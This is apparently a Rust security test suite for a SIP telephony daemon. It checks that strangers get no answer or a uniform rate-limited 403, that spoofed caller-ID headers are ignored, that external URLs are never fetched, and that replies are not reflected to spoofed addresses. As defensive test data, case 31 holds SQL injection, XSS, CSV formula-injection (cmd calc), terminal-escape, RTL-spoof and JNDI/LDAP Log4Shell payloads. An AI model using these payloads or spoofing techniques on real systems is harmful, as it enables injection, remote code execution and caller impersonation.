//! Trust: cases 27 and 30 to 33. (28 and 29, digest: the tests of `sip::auth`.)

use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::time::Duration;

use super::peer::{Peer, audio_of};
use super::watch::{Watch, packet};
use crate::house::{Daemon, Plan, draw, in_own_network, pause};

/// An address that no trunk of the shipped configuration lists.
const STRANGER: &str = "192.0.2.9:0";

#[test]
fn cases_27_to_33() {
    if !in_own_network("trust::cases_27_to_33") {
        return;
    }
    Watch::start(Vec::new()).three_times(|watch| {
        watch.case("case 27", case_27);
        watch.case("case 32", case_32);
        watch.case("case 33", case_33);
    });
}

/// A stranger hears nothing, whatever it asks and whichever number (AST-2018-008).
fn case_27(daemon: &Daemon) {
    let stranger = Peer::at(STRANGER, daemon.sip);
    for method in ["OPTIONS", "INVITE", "REGISTER", "CANCEL", "BYE", "FROB"] {
        for number in ["12345", "12319", "100", "nobody"] {
            stranger.send(stranger.ask(method).instead("sip:12345@", &format!("sip:{number}@")).text);
        }
    }
    stranger.send("INVITE sip:12345");
    // The daemon has come to them when it has answered what came later.
    Peer::new(daemon.sip).until_fence();
    assert!(stranger.next(Duration::from_millis(50)).is_none(), "a stranger was answered");
}

/// With `unlisted = "forbid"`: one 403, the same for every number and method, and nothing of it is kept.
#[test]
fn case_27_one_403_that_is_always_the_same() {
    if !in_own_network("trust::case_27_one_403_that_is_always_the_same") {
        return;
    }
    let edits = vec![
        ("# unlisted = \"drop\"".into(), "unlisted = \"forbid\"".into()),
        ("# unlisted_rate = 10".into(), "unlisted_rate = 30".into()),
    ];
    let daemon = Daemon::start(&Plan { edits, ..Plan::default() });
    let stranger = Peer::at(STRANGER, daemon.sip);
    let mut shapes = std::collections::BTreeSet::new();
    for number in ["12345", "12319", "100", "nobody"] {
        for method in ["OPTIONS", "INVITE", "REGISTER", "BYE"] {
            let ask = stranger.ask(method).instead("sip:12345@", &format!("sip:{number}@"));
            stranger.send(&ask.text);
            let answer = stranger.next(super::peer::PATIENCE).expect("403");
            assert_eq!(answer.code(), Some(403), "{method} {number}");
            let names: Vec<String> = answer.all().map(|(_, name, _)| String::from_utf8_lossy(name).into()).collect();
            shapes.insert(names);
        }
    }
    let told = shapes.iter().flatten().any(|name| ["server", "user-agent"].contains(&name.to_lowercase().as_str()));
    assert!(!told, "a stranger is told what answers: {shapes:?}");
    assert_eq!(shapes.len(), 1, "answers tell numbers or methods apart: {shapes:?}");
    let invite = stranger.invite(stranger.own);
    for _ in 0..2 {
        stranger.send(&invite.text);
        assert_eq!(stranger.next(super::peer::PATIENCE).and_then(|m| m.code()), Some(403), "once each, never repeated");
    }
    assert!(stranger.next(Duration::from_millis(700)).is_none(), "a 403 was repeated: something is kept");
    // No more a second than is allowed: a forged source is not flooded through us.
    let start = std::time::Instant::now();
    for _ in 0..300 {
        stranger.send(&invite.text);
    }
    let answers = std::iter::from_fn(|| stranger.next(Duration::from_millis(100))).count();
    let most = 31 + (start.elapsed().as_secs_f64() * 30.0) as usize;
    assert!(answers <= most, "{answers} answers to 300 requests, {most} at most");
    daemon.wait_until("jiesu_refused_total{reason=\"unlisted_rate\",trunk=\"-\"}", |refused| refused > 0.0);
    assert_eq!(daemon.metric("jiesu_calls_total"), 0.0);
    assert_eq!(daemon.metric("jiesu_sip_transactions"), 0.0);
}

/// A key pressed in a call, so that a ticket is made.
fn call_with_key(daemon: &Daemon, change: impl FnOnce(super::peer::Ask) -> super::peer::Ask) {
    let rtp = UdpSocket::bind("127.0.0.1:0").expect("a port");
    let peer = Peer::new(daemon.sip);
    let invite = change(peer.invite(rtp.local_addr().expect("bound")));
    let answer = peer.finally(&invite);
    assert_eq!(answer.code(), Some(200), "{}", invite.text);
    let to = audio_of(&answer);
    let pressed = daemon.metric("jiesu_dtmf_keys_total");
    for i in 0..40u16 {
        // Audio, then a key (RFC 4733) of 8 with its end three times.
        let bytes = match i {
            0..=20 => packet(i, u32::from(i) * 160, 8, &[0xd5; 160]),
            21..=26 => packet(i, 21 * 160, 101, &[8, 10, 0, (i - 20) as u8 * 40]),
            27..=29 => packet(i, 21 * 160, 101, &[8, 0x8a, 0, 0xff]),
            _ => packet(i, u32::from(i) * 160, 8, &[0xd5; 160]),
        };
        rtp.send_to(&bytes, to).expect("the port is open");
        pause();
    }
    let start = std::time::Instant::now();
    while daemon.metric("jiesu_dtmf_keys_total") == pressed && start.elapsed() < Duration::from_secs(2) {
        pause();
    }
    peer.bye(2, &invite, &answer);
}

/// Who calls is the address in From, and nothing that claims to be.
#[test]
fn case_30_the_caller_in_the_ticket_is_the_address() {
    if !in_own_network("trust::case_30_the_caller_in_the_ticket_is_the_address") {
        return;
    }
    let mut watch = Watch::start(Vec::new());
    let number = format!("138{:08}", draw(100_000_000));
    call_with_key(&watch.daemon, |ask| {
        ask.instead("\"x\" <sip:13800001111@", &format!("\"110 <sip:110@police.example>;tag=evil\" <sip:{number}@"))
            .with("From-X: <sip:110@police.example>\r\nRemote-Party-ID: <sip:110@police.example>\r\nX-Caller: 110\r\n")
            .with("Subject: x\r\n P-Asserted-Identity: <sip:110@police.example>\r\n")
    });
    watch.expect_tickets(2);
    let callers: Vec<String> =
        watch.daemon.tickets().iter().map(|t| t["caller"].as_str().unwrap_or("-").into()).collect();
    assert!(callers.contains(&number) && !callers.iter().any(|c| c.contains("110@") || c == "110"), "{callers:?}");
    // A second From, with a blank before its colon or in short, is not believed: it is a fault.
    watch.case("case 30, a second From", |daemon| {
        for line in ["From\t : <sip:110@police.example>;tag=2\r\n", "f: <sip:110@police.example>;tag=2\r\n"] {
            let peer = Peer::new(daemon.sip);
            assert_eq!(peer.codes(&peer.ask("INVITE").with(line).text), [400], "{line:?}");
        }
    });
}

/// SQL, HTML, CSV, logs, terminals: what a caller says is kept as it is and shown so that it steers nothing.
#[test]
fn case_31_what_a_caller_says_is_kept_and_never_obeyed() {
    if !in_own_network("trust::case_31_what_a_caller_says_is_kept_and_never_obeyed") {
        return;
    }
    let mut watch = Watch::start(Vec::new());
    let names = [
        "'); DROP TABLE tickets; --",
        "<script>alert(1)</script>&lt;",
        "=cmd|' /C calc'!A0",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\u{202e}gnp.exe \u{2066}x",
        "{{7*7}} ${jndi:ldap://192.0.2.9/a} %0d%0aX: y",
    ];
    for (i, name) in names.iter().enumerate() {
        call_with_key(&watch.daemon, |ask| ask.instead("\"x\" <", &format!("\"{name}\" <")));
        watch.expect_tickets(2 + i);
    }
    let out = watch.daemon.cli(&["ticket", "list"]);
    let numbers: Vec<String> =
        watch.daemon.tickets().iter().map(|t| t["number"].as_str().expect("a number").to_owned()).collect();
    let mut shown = String::from_utf8(out.stdout).expect("UTF-8");
    for number in &numbers {
        for words in [["ticket", "show", number], ["ticket", "history", number]] {
            shown += &String::from_utf8(watch.daemon.cli(&words).stdout).expect("UTF-8");
        }
    }
    let log = watch.daemon.log();
    for (what, text) in [("the console", &shown), ("the log", &log)] {
        for steering in ['\u{1b}', '\u{7}', '\u{202e}', '\u{2066}'] {
            assert!(!text.contains(steering), "{what} shows {steering:?} raw");
        }
    }
    // Kept as they were: each name is in the calls' rows, byte for byte.
    let mut kept = Vec::new();
    for entry in std::fs::read_dir(watch.daemon.folder.join("state")).expect("the state folder") {
        let path = entry.expect("it can be listed").path();
        if path.is_file() {
            kept.extend(std::fs::read(path).expect("readable"));
        }
    }
    for name in names {
        assert!(kept.windows(name.len()).any(|window| window == name.as_bytes()), "{name:?} is not kept");
    }
    watch.case("case 31", |_| {});
}

/// An Identity header names a URL: nobody fetches it (AST-2022-001).
fn case_32(daemon: &Daemon) {
    let server = TcpListener::bind("192.0.2.9:0").expect("a port");
    server.set_nonblocking(true).expect("a socket option");
    let at: SocketAddr = server.local_addr().expect("bound");
    let peer = Peer::new(daemon.sip);
    let invite = peer.invite(peer.own).with(&format!(
        "Identity: eyJhbGciOiJFUzI1NiJ9.e30.AAAA;info=<http://{at}/cert.pem>;alg=ES256;ppt=shaken\r\n\
         Call-Info: <http://{at}/picture.jpg>;purpose=icon\r\nAlert-Info: <http://{at}/ring.wav>\r\n"
    ));
    let answer = peer.finally(&invite);
    assert_eq!(answer.code(), Some(200));
    peer.until_fence();
    peer.bye(2, &invite, &answer);
    assert!(server.accept().is_err(), "a URL of a stranger's was fetched");
}

/// Via, maddr and Contact that name a victim: answers go to the source alone.
fn case_33(daemon: &Daemon) {
    let victim = UdpSocket::bind(STRANGER).expect("a port");
    victim.set_read_timeout(Some(Duration::from_millis(100))).expect("a socket option");
    let at = victim.local_addr().expect("bound");
    let peer = Peer::new(daemon.sip);
    let via = format!("UDP {};rport", peer.own);
    for spoofed in [
        format!("UDP {at};rport"),
        format!("UDP {};rport;maddr={}", peer.own, at.ip()),
        format!("UDP victim.example;received={};rport={}", at.ip(), at.port()),
    ] {
        assert_eq!(peer.codes(peer.ask("OPTIONS").instead(&via, &spoofed).text), [200], "{spoofed}");
    }
    // A name that must not be looked up: the answer comes at once all the same.
    let slow = peer.ask("OPTIONS").instead(&via, "UDP no.such.host.invalid;rport");
    assert_eq!(peer.codes(slow.text), [200]);
    let invite = peer
        .invite(peer.own)
        .instead(&format!("Contact: <sip:13800001111@{}>", peer.own), &format!("Contact: <sip:x@{at}>"));
    let answer = peer.finally(&invite);
    assert_eq!(answer.code(), Some(200));
    peer.bye(2, &invite, &answer);
    assert!(victim.recv(&mut [0; 2048]).is_err(), "the victim got something");
}
